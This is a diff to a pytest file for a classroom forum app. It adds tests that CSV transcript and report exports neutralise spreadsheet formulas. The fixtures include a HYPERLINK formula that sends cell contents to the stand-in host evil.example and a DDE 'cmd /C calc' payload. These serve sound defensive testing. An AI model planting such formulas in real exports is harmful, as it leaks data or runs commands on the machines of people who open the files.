@@ -5,6 +5,7 @@ must hold for every write, and spreadsheet formulas that must not run from an ex
 from __future__ import annotations
 
 import base64
+import csv
 import hashlib
 import io
 import json
@@ -13,7 +14,7 @@ import pytest
 from conftest import Auth, csrf_token
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
-from livekit import People, sign_in
+from livekit import Live, People, sign_in
 
 from forum import room
 from forum.live import handlers
@@ -252,3 +253,63 @@ def test_a_locked_room_takes_no_student_writes(people):
     assert other.received("typing")
     teacher.ok("note.edit", {"session_id": sid, "note_id": note["id"],
                              "version": note["version"], "x": 10})
+
+
+# --- 4. spreadsheet formulas do not run from an export --------------------------------
+
+FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(A1)")
+EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(people, app, demo, runner,
+                                                                 tmp_path):
+    sid = people.live_session
+    class_id = next(c["id"] for c in demo["classes"] if c["school"] == "taipei-daan")
+    roster = tmp_path / "roster.csv"
+    with roster.open("w", newline="", encoding="utf-8") as fh:
+        csv.writer(fh).writerows([["display_name"], [EVIL_NAME]])
+    result = runner.invoke(args=["forum", "import-roster", str(class_id), str(roster), "--json"])
+    assert result.exit_code == 0, result.output
+    code = json.loads(result.stdout)[0]["code"]
+    user = {"code": code, "display_name": EVIL_NAME, "role": "student",
+            "school": "taipei-daan"}
+    evil = Live(app, user, http=sign_in(app, user))
+    evil.ok("join", {"session_id": sid})
+    for i, body in enumerate(FORMULAS):
+        evil.ok("chat.send", {"session_id": sid, "client_id": f"f{i}", "body": body})
+
+    teacher = sign_in(app, people.users["tw_teacher"])
+    raw = teacher.get(f"/sessions/{sid}/transcript.csv").get_data()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    header = rows[0]
+    mine = [r for r in rows[1:] if r[header.index("author")].endswith("click\")")]
+    assert [r[header.index("author")] for r in mine] == ["'" + EVIL_NAME] * len(FORMULAS)
+    assert [r[header.index("body")] for r in mine] == ["'" + f for f in FORMULAS]
+    for row in rows:
+        for cell in row:
+            assert not cell or cell[0] not in "=+-@\t\r", row
+
+    # The evidence keeps the exact text.
+    doc = teacher.get(f"/sessions/{sid}/transcript.json").get_json()
+    bodies = [e["data"]["body"] for e in doc["events"] if e["type"] == "message.posted"]
+    assert bodies[-len(FORMULAS):] == list(FORMULAS)
+    assert EVIL_NAME in [a["name"] for a in doc["actors"].values()]
+
+
+def test_report_csvs_neutralise_formulas_too(app, demo, runner, monkeypatch):
+    from forum import review
+
+    rows = [("figure", "=cmd|' /C calc'!A0", 1), ("figure", "\tTAB", "-2+3"),
+            ("sessions_held", "", 3)]
+    monkeypatch.setattr(review, "report_rows", lambda data: rows)
+    result = runner.invoke(args=["forum", "report", "--year", "113", "--format", "csv"])
+    assert result.exit_code == 0, result.output
+    lines = list(csv.reader(io.StringIO(result.stdout)))
+    assert lines[1:] == [["figure", "'=cmd|' /C calc'!A0", "1"], ["figure", "'\tTAB", "'-2+3"],
+                         ["sessions_held", "", "3"]]
+    reviewer = signed_in(app, demo, "reviewer")
+    raw = reviewer.get("/review/report?year=113&format=csv").get_data()
+    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    assert lines[1:] == [["figure", "'=cmd|' /C calc'!A0", "1"], ["figure", "'\tTAB", "'-2+3"],
+                         ["sessions_held", "", "3"]]
+
